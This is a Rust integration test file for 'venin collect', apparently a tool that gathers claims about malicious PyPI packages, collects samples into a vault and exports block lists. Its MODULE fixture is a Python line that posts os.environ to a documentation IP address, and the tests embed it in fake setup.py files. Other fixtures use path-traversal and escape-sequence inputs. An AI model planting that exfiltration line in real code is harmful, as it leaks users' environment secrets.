//! `venin collect`: claims from files and servers, samples from the index, mirrors and trees.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;

use serde_json::{Value, json};
use venin_intel::claim::ClaimId;
use venin_intel::store::{Selection, Store};
use venin_testkit::{Answer, Fault, Index, On, TestServer, Upload};

use crate::{Run, run, venin};

/// A module that an attacker could have written; its address is documentation and it sends a word.
const MODULE: &str = "import os, urllib.request\n\
    urllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n";

/// A program in a folder of its own, at a fixed time, with a store and a vault there, without any index.
pub(crate) fn at(folder: &Path, words: &[&str]) -> assert_cmd::Command {
    let mut command = venin(words);
    command
        .current_dir(folder)
        .env("VENIN_STORE", "claims.sqlite3")
        .env("VENIN_VAULT", "vault")
        .env("SOURCE_DATE_EPOCH", "1780000000")
        .env("VENIN_INDEX_URL", "http://127.0.0.1:9/simple");
    command
}

fn go(folder: &Path, words: &[&str]) -> Run {
    run(&mut at(folder, words))
}

/// An OSV record as the feeds write it.
fn record(id: &str, name: &str, versions: &[&str], modified: &str) -> Value {
    json!({
        "schema_version": "1.7.4", "id": id, "published": "2026-01-02T03:04:05Z", "modified": modified,
        "summary": format!("Malicious code in {name} (PyPI)"), "details": "Text.",
        "affected": [{"package": {"ecosystem": "PyPI", "name": name}, "versions": versions}],
    })
}

/// An sdist with this code in its setup script, as a ZIP.
pub(crate) fn sdist(name: &str, version: &str, code: &str) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    zip.start_file(format!("{name}-{version}/setup.py"), options).unwrap();
    let setup = format!("from setuptools import setup\n{code}setup(name='{name}')\n");
    zip.write_all(setup.as_bytes()).unwrap();
    zip.finish().unwrap().into_inner()
}

pub(crate) fn malicious(name: &str, version: &str) -> Upload {
    Upload::file(name, version, &format!("{name}-{version}.zip"), sdist(name, version, MODULE))
}

/// Every claim of the store by its identity, and the block list, which is derived from all of them.
pub(crate) fn known(folder: &Path) -> (String, Vec<ClaimId>) {
    let list = go(folder, &["store", "export", "block-list"]).stdout;
    let store = Store::open_to_read(&folder.join("claims.sqlite3")).unwrap();
    let mut ids = Vec::new();
    store.visit_claims(&Selection::default(), |_, claim| ids.push(claim.id())).unwrap();
    ids.sort_unstable();
    (list, ids)
}

fn counts(run: &Run) -> (Value, Value, Value) {
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["schema"], "venin.collect/1");
    let first = &report["runs"][0];
    (first["found"].clone(), first["new"].clone(), first["problems"].clone())
}

#[test]
fn a_second_import_changes_nothing_and_what_is_taken_back_is_honored() {
    let folder = tempfile::tempdir().unwrap();
    let records = folder.path().join("records");
    std::fs::create_dir(&records).unwrap();
    let day = "2026-01-03T00:00:00Z";
    std::fs::write(records.join("a.json"), record("MAL-2026-1", "bad-name", &["1.0"], day).to_string())
        .unwrap();
    std::fs::write(records.join("b.json"), record("MAL-2026-2", "worse", &["2"], day).to_string()).unwrap();
    let words = ["collect", "osv", "records", "--format", "json"];
    let first = go(folder.path(), &words);
    assert_eq!((first.code, counts(&first)), (0, (json!(4), json!(4), json!(0))), "{}", first.stderr);
    let before = known(folder.path());
    assert!(before.0.contains("bad-name") && before.0.contains("worse"), "{}", before.0);
    let second = go(folder.path(), &words);
    assert_eq!(counts(&second), (json!(4), json!(0), json!(0)));
    assert_eq!(known(folder.path()), before);

    let mut taken_back = record("MAL-2026-2", "worse", &["2"], "2026-01-05T00:00:00Z");
    taken_back["withdrawn"] = json!("2026-01-05T00:00:00Z");
    std::fs::write(records.join("b.json"), taken_back.to_string()).unwrap();
    assert_eq!(go(folder.path(), &words).code, 0);
    let after = known(folder.path());
    assert!(after.0.contains("bad-name") && !after.0.contains("worse"), "{}", after.0);
}

#[test]
fn corrupt_records_are_a_line_each_and_the_run_goes_on() {
    let folder = tempfile::tempdir().unwrap();
    let mut zip = zip::ZipWriter::new(std::fs::File::create(folder.path().join("dump.zip")).unwrap());
    let mut put = |name: &str, bytes: &[u8]| {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    };
    put(
        "good.json",
        record("MAL-2026-1", "bad-name", &["1.0"], "2026-01-03T00:00:00Z").to_string().as_bytes(),
    );
    put("cut.json", b"{\"id\": \"MAL-2026-3\", \"affected");
    put("latin.json", b"{\"id\": \"MAL-\xff\xfe\"}");
    put(
        "name.json",
        record("MAL-2026-4", "../../etc", &["1"], "2026-01-03T00:00:00Z").to_string().as_bytes(),
    );
    put(
        "control.json",
        record("MAL-2026-5", "a\u{1b}[31m\n", &["1"], "2026-01-03T00:00:00Z").to_string().as_bytes(),
    );
    zip.finish().unwrap();
    let trial = go(folder.path(), &["collect", "osv", "dump.zip", "--dry-run"]);
    assert_eq!(trial.code, 3, "{}", trial.stderr);
    assert!(
        trial.stdout.contains("2 claims") && trial.stdout.ends_with("nothing was written\n"),
        "{}",
        trial.stdout
    );
    assert!(!folder.path().join("claims.sqlite3").exists());
    let run = go(folder.path(), &["collect", "osv", "dump.zip"]);
    assert_eq!(run.code, 3);
    assert_eq!(run.stderr.lines().count(), 4, "{}", run.stderr);
    assert!(run.stderr.lines().all(|line| line.starts_with("warning: ")) && !run.stderr.contains('\u{1b}'));
    assert!(run.stdout.contains("2 claims, 2 new, 4 problems"), "{}", run.stdout);
    let missing = go(folder.path(), &["collect", "osv", "nowhere.zip"]);
    assert_eq!((missing.code, missing.stderr.lines().count()), (2, 1), "{}", missing.stderr);
    let unknown = go(folder.path(), &["collect", "rumors", "dump.zip"]);
    assert!(unknown.stderr.contains("there is no source `rumors`"), "{}", unknown.stderr);
}

#[test]
fn many_problems_are_shown_in_part_and_counted() {
    let folder = tempfile::tempdir().unwrap();
    let mut table = "name,version\n".to_owned();
    (0..50).for_each(|n| writeln!(table, "../{n},1").unwrap());
    std::fs::write(folder.path().join("t.csv"), table).unwrap();
    let run = go(folder.path(), &["collect", "table", "t.csv"]);
    assert_eq!((run.code, run.stderr.lines().count()), (3, 21), "{}", run.stderr);
    assert!(run.stderr.ends_with("warning: table: 30 further problems\n"), "{}", run.stderr);
}

/// An address with encryption at a server that speaks none.
fn no_tls() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("https://{}/", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            stream.write_all(b"HTTP/1.1 400 Bad Request\r\n\r\n").unwrap();
        }
    });
    address
}

#[test]
fn a_failing_server_is_one_clear_line_and_does_not_end_the_others() {
    let folder = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.fault(On::Path("/loop.json".to_owned()), Fault::RedirectLoop);
    let good = record("MAL-2026-1", "bad-name", &["1.0"], "2026-01-03T00:00:00Z").to_string();
    let server = TestServer::start([("/good.json", Answer::ok("application/json", good))]);
    let sources = [
        format!("{}/loop.json", index.base()),
        no_tls(),
        format!("{}/absent.json", server.base),
        format!("{}/good.json", server.base),
    ];
    let mut config = String::new();
    for (n, input) in sources.iter().enumerate() {
        writeln!(config, "[[source]]\nid = \"osv\"\ninput = \"{input}\"\nas = \"feed-{n}\"").unwrap();
    }
    std::fs::write(folder.path().join("venin.toml"), config).unwrap();
    let run = go(folder.path(), &["collect", "--contact", "ops@lab.example", "--format", "json"]);
    assert_eq!(run.code, 2);
    assert_eq!(run.stderr.lines().count(), 3, "{}", run.stderr);
    for said in ["redirects in a circle", "no trusted connection", "404"] {
        assert!(run.stderr.contains(said), "{said}: {}", run.stderr);
    }
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    let outcomes: Vec<&str> =
        report["runs"].as_array().unwrap().iter().map(|run| run["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["failed", "failed", "failed", "complete"]);
    assert!(report["traffic"]["requests"].as_u64().unwrap() >= 3);
    assert!(server.requests().iter().all(|head| head.contains("(+ops@lab.example)")));
}

#[test]
fn a_tree_gives_its_own_samples_and_no_server_is_asked() {
    let folder = tempfile::tempdir().unwrap();
    for (name, version) in [("bad-name", "1.0"), ("bad-name", "1.1"), ("quiet", "2")] {
        let place = folder.path().join("tree").join(name).join(version);
        std::fs::create_dir_all(&place).unwrap();
        let code = if name == "quiet" { "x = 1\n" } else { MODULE };
        std::fs::write(place.join(format!("{name}-{version}.zip")), sdist(name, version, code)).unwrap();
    }
    let words = ["collect", "registry-tree", "tree", "--as", "dataset", "--download", "--format", "json"];
    let first = go(folder.path(), &words);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let report: Value = serde_json::from_str(&first.stdout).unwrap();
    let samples = &report["samples"];
    assert_eq!((&samples["planned"], &samples["new_samples"]), (&json!(3), &json!(3)), "{samples}");
    assert_eq!((&samples["agree"], &samples["differ"]), (&json!(2), &json!(1)), "{samples}");
    assert_eq!((&samples["left"]["done"], &report["traffic"]["requests"]), (&json!(3), &json!(0)));
    let before = known(folder.path());
    let again: Value = serde_json::from_str(&go(folder.path(), &words).stdout).unwrap();
    assert_eq!((&again["samples"]["files"], &again["runs"][0]["new"]), (&json!(0), &json!(0)));
    assert_eq!(known(folder.path()), before);
    let explained = go(folder.path(), &["explain", "quiet==2"]).stdout;
    assert!(explained.contains("clean"), "the conflict shows: {explained}");
    let list = go(folder.path(), &["store", "export", "block-list"]).stdout;
    assert_eq!(
        list.matches("\"blake2b-256\"").count(),
        3,
        "the notes of the vault know the addresses: {list}"
    );
    let without = go(folder.path(), &["store", "export", "block-list", "--vault", "none"]).stdout;
    assert!(without.contains("bad-name-1.0.zip") && !without.contains("blake2b-256"), "{without}");
    assert!(!folder.path().join("none").exists());
    assert_eq!(go(folder.path(), &["vault", "verify"]).stdout, "3 samples, 0 wrong\n");
}

/// A table that accuses these releases.
fn accuse(folder: &Path, releases: &[(&str, &str)]) {
    let mut table = "name,version\n".to_owned();
    releases.iter().for_each(|(name, version)| writeln!(table, "{name},{version}").unwrap());
    std::fs::write(folder.join("accused.csv"), table).unwrap();
    assert_eq!(go(folder, &["collect", "table", "accused.csv"]).code, 0);
}

#[test]
fn what_the_index_removed_comes_from_a_mirror_and_what_nobody_has_is_said_so() {
    let folder = tempfile::tempdir().unwrap();
    let (index, mirror) = (Index::start(), Index::start());
    index.upload(malicious("still-there", "1"));
    for server in [&index, &mirror] {
        server.upload(malicious("removed", "1"));
    }
    index.remove_project("removed");
    accuse(folder.path(), &[("still-there", "1"), ("removed", "1"), ("nowhere", "3")]);
    let mirror_option = format!("old={}", mirror.simple_url());
    let (own, url) = (["--download", "--format", "json", "--index-url"], index.simple_url());
    let words: Vec<&str> =
        ["collect"].into_iter().chain(own).chain([url.as_str(), "--mirror", &mirror_option]).collect();
    let run = go(folder.path(), &words);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    let samples = &report["samples"];
    assert_eq!((&samples["got"], &samples["nowhere"], &samples["agree"]), (&json!(2), &json!(1), &json!(2)));
    let asked = mirror.requests().iter().filter(|request| request.path.contains("still-there")).count();
    assert_eq!(asked, 0, "the index has it: the mirror is not asked");
    let life = go(folder.path(), &["lifecycle", "removed==1", "--format", "json"]).stdout;
    assert!(life.contains("mirror:old") && life.contains("file-seen"), "{life}");

    index.forget_requests();
    let again: Value = serde_json::from_str(&go(folder.path(), &words).stdout).unwrap();
    assert_eq!(again["traffic"]["requests"], 0, "nothing is asked twice: {again}");
    let third = Index::start();
    third.upload(malicious("nowhere", "3"));
    let third_option = format!("third={}", third.simple_url());
    let more: Vec<&str> = words.iter().copied().chain(["--mirror", &third_option]).collect();
    let more: Value = serde_json::from_str(&go(folder.path(), &more).stdout).unwrap();
    assert_eq!(more["samples"]["got"], 1, "a new mirror is asked for what nobody had: {more}");
}

/// Claims as JSON lines, taken in as a table.
fn say(folder: &Path, claims: &[Value]) {
    let lines: String = claims.iter().map(|claim| format!("{claim}\n")).collect();
    std::fs::write(folder.join("said.jsonl"), lines).unwrap();
    let run = go(folder, &["collect", "table", "said.jsonl"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn what_no_page_lists_any_more_comes_from_the_file_host_by_its_digest() {
    let folder = tempfile::tempdir().unwrap();
    let (index, stranger) = (Index::start_with_file_host(), TestServer::start([]));
    let (kept, purged) = (index.upload(malicious("removed", "1")), index.upload(malicious("purged", "2")));
    for file in [&kept, &purged] {
        let digits: String =
            file.path.split('/').rev().skip(1).take(3).collect::<Vec<_>>().into_iter().rev().collect();
        let detail = json!({"blake2b-256": digits, "url": format!("{}/{}", stranger.base, file.file_name)});
        let of_file = json!({"name": file.name, "version": file.version, "file": file.file_name, "sha256": file.sha256,
            "surface": "official-index", "kind": "uploaded", "detail": detail});
        say(folder.path(), &[of_file]);
        index.remove_project(&file.name);
    }
    index.purge_file(&purged);
    accuse(folder.path(), &[("removed", "1"), ("purged", "2"), ("unknown", "3")]);
    let url = index.simple_url();
    let words = ["collect", "--download", "--pace", "0", "--index-url", &url, "--format", "json"];
    let samples = |words: &[&str]| {
        let run = go(folder.path(), words);
        assert_eq!(run.code, 0, "{}", run.stderr);
        serde_json::from_str::<Value>(&run.stdout).unwrap()["samples"].clone()
    };
    let without = samples(&words);
    assert_eq!(
        (&without["got"], &without["nowhere"]),
        (&json!(0), &json!(3)),
        "no host is asked that is not named"
    );
    std::fs::write(folder.path().join("venin.toml"), format!("file-hosts = [\"{}\"]\n", index.file_host()))
        .unwrap();
    let with = samples(&words);
    assert_eq!((&with["got"], &with["agree"], &with["nowhere"]), (&json!(1), &json!(1), &json!(2)), "{with}");
    assert!(stranger.requests().is_empty(), "the address of a claim on another host is not asked");
    let life = go(folder.path(), &["lifecycle", "removed==1", "--format", "json"]).stdout;
    assert!(life.contains("official-file-host") && life.contains("file-seen"), "{life}");
    let late = index.upload(malicious("unknown", "3"));
    index.remove_project("unknown");
    assert_eq!(samples(&words)["got"], 0, "nobody has said where it is");
    say(
        folder.path(),
        &[json!({"name": "unknown", "version": "3", "file": late.file_name, "kind": "uploaded",
        "surface": "official-index", "detail": {"blake2b-256": late.blake2b}})],
    );
    assert_eq!(samples(&words)["got"], 1, "a file that was learned of since is asked for");
    let life = go(folder.path(), &["lifecycle", "purged==2", "--format", "json"]).stdout;
    assert!(life.contains("not-found") && life.contains("official-file-host"), "{life}");
}

#[test]
fn an_address_that_a_claim_carries_is_asked_on_a_host_that_the_user_named() {
    let folder = tempfile::tempdir().unwrap();
    let bytes = sdist("odd", "1", MODULE);
    let sha256 = venin_intel::claim::Digest::of(&bytes).to_string();
    let files = TestServer::start([("/store/odd-1.zip", Answer::ok("application/zip", bytes))]);
    let said = json!({"name": "odd", "version": "1", "file": "odd-1.zip", "sha256": sha256, "class": "malware",
        "source_ref": format!("{}/store/odd-1.zip", files.base)});
    let release = json!({"name": "odd", "version": "1", "source_ref": "note 1"});
    say(folder.path(), &[said, release]);
    let index = Index::start();
    let words = ["collect", "--download", "--pace", "0", "--index-url", &index.simple_url(), "--file-host"];
    let narrow = go(folder.path(), &[&words[..], &[&format!("{}/other", files.base)]].concat());
    assert!(narrow.stdout.contains("1 nowhere") && files.requests().is_empty(), "{}", narrow.stdout);
    let run = go(folder.path(), &[&words[..], &[&files.base]].concat());
    assert!(run.stdout.contains("1 got (1 files, 1 new)"), "{}{}", run.stdout, run.stderr);
    let wrong = go(folder.path(), &[&words[..], &["nowhere"]].concat());
    assert!(wrong.code == 2 && wrong.stderr.contains("hint: "), "{}", wrong.stderr);
}

#[test]
fn a_server_that_fails_is_asked_again_later_and_another_may_have_it() {
    let folder = tempfile::tempdir().unwrap();
    let (index, mirror) = (Index::start(), Index::start());
    for server in [&index, &mirror] {
        server.upload(malicious("slow", "1"));
    }
    index.fault(On::Under("/packages/".to_owned()), Fault::WrongBytes);
    mirror.fault(On::All, Fault::Status(403));
    accuse(folder.path(), &[("slow", "1")]);
    let (url, option) = (index.simple_url(), format!("m={}", mirror.simple_url()));
    let words = ["collect", "--download", "--index-url", &url, "--mirror", &option, "--format", "json"];
    let first = go(folder.path(), &words);
    assert_eq!(first.code, 3, "{}", first.stderr);
    assert!(first.stderr.contains("another was announced"), "{}", first.stderr);
    mirror.clear_faults();
    let early: Value = serde_json::from_str(&go(folder.path(), &words).stdout).unwrap();
    assert_eq!(early["samples"]["got"], 0, "not yet");
    let later = run(at(folder.path(), &words).env("SOURCE_DATE_EPOCH", "1780003600"));
    let later: Value = serde_json::from_str(&later.stdout).unwrap();
    assert_eq!((&later["samples"]["got"], &later["samples"]["agree"]), (&json!(1), &json!(1)), "{later}");
}

#[test]
fn takedowns_are_collected_from_the_changelog_from_the_last_serial_on() {
    let folder = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.set_time("2026-05-01T00:00:00Z");
    index.upload(Upload::wheel("alpha", "1"));
    let url = index.xmlrpc_url();
    let words = ["collect", "index-changelog", &url, "--format", "json"];
    assert_eq!(counts(&go(folder.path(), &words)).0, 0, "a first run begins with what is to come");
    index.quarantine_project("alpha");
    index.upload(Upload::wheel("beta", "1"));
    index.remove_project("alpha");
    let run = go(folder.path(), &words);
    assert_eq!((run.code, counts(&run).1), (0, json!(2)), "{}{}", run.stdout, run.stderr);
    assert_eq!(counts(&go(folder.path(), &words)).0, 0);
    let from_start =
        go(folder.path(), &["collect", "index-changelog", &url, "--from", "0", "--format", "json"]);
    assert_eq!(counts(&from_start), (json!(2), json!(0), json!(0)));
}

#[test]
fn the_sources_are_listed_and_nothing_to_do_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let listed = go(folder.path(), &["collect", "--list", "--format", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    assert!(listed["sources"].as_array().unwrap().iter().any(|s| s["id"] == "osv"));
    let nothing = go(folder.path(), &["collect"]);
    assert_eq!((nothing.code, nothing.stderr.contains("[[source]]")), (2, true));
    let date = go(folder.path(), &["collect", "osv", "x", "--since", "soon"]);
    assert!(date.stderr.contains("`soon` is no date"), "{}", date.stderr);
}

/// The commands of the guide, in its order.
fn guide() -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/collect.md");
    let page = std::fs::read_to_string(path).unwrap();
    page.lines().filter_map(|line| line.strip_prefix("    venin ")).map(ToOwned::to_owned).collect()
}

#[test]
fn the_commands_of_the_guide_lead_from_nothing_to_a_vault_and_a_block_list() {
    let folder = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.upload(malicious("bad-name", "1.0"));
    std::fs::create_dir_all(folder.path().join("records")).unwrap();
    let day = "2026-01-03T00:00:00Z";
    let text = record("MAL-2026-1", "bad-name", &["1.0"], day).to_string();
    std::fs::write(folder.path().join("records/a.json"), text).unwrap();
    std::fs::write(folder.path().join("accused.csv"), "name,version\nworse,2\n").unwrap();
    let place = folder.path().join("tree/other/3");
    std::fs::create_dir_all(&place).unwrap();
    std::fs::write(place.join("other-3.zip"), sdist("other", "3", MODULE)).unwrap();
    let commands = guide();
    assert!(commands.len() >= 10, "{commands:?}");
    for command in commands {
        let command = command.replace("https://index.example/pypi", &index.xmlrpc_url());
        let words: Vec<&str> = command.split(' ').collect();
        let done = run(at(folder.path(), &words).env("VENIN_INDEX_URL", index.simple_url()));
        assert_eq!(done.code, 0, "{command}: {}{}", done.stdout, done.stderr);
    }
    let list = std::fs::read_to_string(folder.path().join("block-list.jsonl")).unwrap();
    assert!(["bad-name", "worse", "other"].iter().all(|name| list.contains(name)), "{list}");
    assert_eq!(go(folder.path(), &["vault", "list"]).stdout.lines().count(), 2);
}

/// Ends a command without warning after this time, if it still runs.
pub(crate) fn kill_after(command: &assert_cmd::Command, words: &[&str], folder: &Path, millis: u64) {
    let mut child = std::process::Command::new(command.get_program());
    child.args(words).current_dir(folder).envs(command.get_envs().filter_map(|(k, v)| Some((k, v?))));
    let mut child =
        child.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(millis));
    let _ = child.kill();
    child.wait().unwrap();
}

/// Delays that are the same in every run (a linear congruential generator).
pub(crate) fn delays(most: u64) -> impl Iterator<Item = u64> {
    let next =
        |x: &u64| Some(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407));
    std::iter::successors(Some(7_u64), next).map(move |x| (x >> 33) % most)
}

#[test]
fn a_killed_import_loses_nothing_and_doubles_nothing() {
    let (killed, undisturbed) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let mut table = "name,version,date,source_ref\n".to_owned();
    (0..15_000).for_each(|n| writeln!(table, "project-{},{n},2026-01-02,REF-{n}", n / 3).unwrap());
    let words = ["collect", "table", "t.csv"];
    for folder in [&killed, &undisturbed] {
        std::fs::write(folder.path().join("t.csv"), &table).unwrap();
    }
    for delay in delays(700).take(20) {
        kill_after(&at(killed.path(), &words), &words, killed.path(), delay);
        if killed.path().join("claims.sqlite3").exists() {
            let sound = go(killed.path(), &["store", "verify"]);
            assert_eq!(sound.code, 0, "{}{}", sound.stdout, sound.stderr);
        }
    }
    for folder in [&killed, &undisturbed] {
        assert_eq!(go(folder.path(), &words).code, 0);
    }
    assert_eq!(known(killed.path()), known(undisturbed.path()));
}

#[test]
fn a_killed_collection_of_samples_goes_on_where_it_was() {
    let (killed, undisturbed) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let words = ["collect", "registry-tree", "tree", "--download"];
    for folder in [&killed, &undisturbed] {
        for n in 0..12 {
            let (name, version) = (format!("bad-{}", n / 2), format!("{n}"));
            let place = folder.path().join("tree").join(&name).join(&version);
            std::fs::create_dir_all(&place).unwrap();
            std::fs::write(place.join(format!("{name}-{version}.zip")), sdist(&name, &version, MODULE))
                .unwrap();
        }
    }
    for delay in delays(2_000).take(20) {
        kill_after(&at(killed.path(), &words), &words, killed.path(), delay);
        if killed.path().join("claims.sqlite3").exists() {
            let sound = go(killed.path(), &["store", "verify"]);
            assert_eq!(sound.code, 0, "{}{}", sound.stdout, sound.stderr);
        }
    }
    for folder in [&killed, &undisturbed] {
        let last = go(folder.path(), &words);
        assert_eq!(last.code, 0, "{}{}", last.stdout, last.stderr);
    }
    assert_eq!(known(killed.path()), known(undisturbed.path()));
    assert_eq!(go(killed.path(), &["vault", "verify"]).stdout, "12 samples, 0 wrong\n");
}

#[test]
fn a_killed_download_asks_only_for_what_is_left() {
    let (killed, undisturbed) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let index = Index::start();
    let names: Vec<String> = (0..8).map(|n| format!("bad-{n}")).collect();
    let releases: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "1")).collect();
    names.iter().for_each(|name| drop(index.upload(malicious(name, "1"))));
    index.fault(On::Under("/packages/".to_owned()), Fault::Delay(std::time::Duration::from_millis(60)));
    let url = index.simple_url();
    let words = ["collect", "--download", "--index-url", &url];
    for folder in [&killed, &undisturbed] {
        accuse(folder.path(), &releases);
    }
    for delay in delays(1_500).take(20) {
        kill_after(&at(killed.path(), &words), &words, killed.path(), delay);
        assert_eq!(go(killed.path(), &["store", "verify"]).code, 0);
    }
    for folder in [&killed, &undisturbed] {
        assert_eq!(go(folder.path(), &words).code, 0);
    }
    assert_eq!(known(killed.path()), known(undisturbed.path()));
}

#[test]
fn one_damaged_sample_does_not_keep_the_others() {
    let folder = tempfile::tempdir().unwrap();
    let index = Index::start();
    let first = index.upload(malicious("bad-a", "1"));
    index.upload(malicious("bad-b", "1"));
    let url = index.simple_url();
    let words = ["collect", "--download", "--index-url", &url, "--format", "json"];
    accuse(folder.path(), &[("bad-a", "1")]);
    assert_eq!(go(folder.path(), &words).code, 0);
    let note = format!("vault/samples/{}/{}.json", &first.sha256[..2], first.sha256);
    std::fs::write(folder.path().join(note), "nonsense").unwrap();
    index.upload(Upload::file("bad-c", "1", "bad-c-1.zip", sdist("bad-a", "1", MODULE)));
    accuse(folder.path(), &[("bad-b", "1"), ("bad-c", "1")]);
    let run = go(folder.path(), &words);
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["samples"]["left"]["done"], 2 + u64::from(run.code == 0), "{report} {}", run.stderr);
    assert!(run.stderr.lines().count() <= 1, "{}", run.stderr);
}
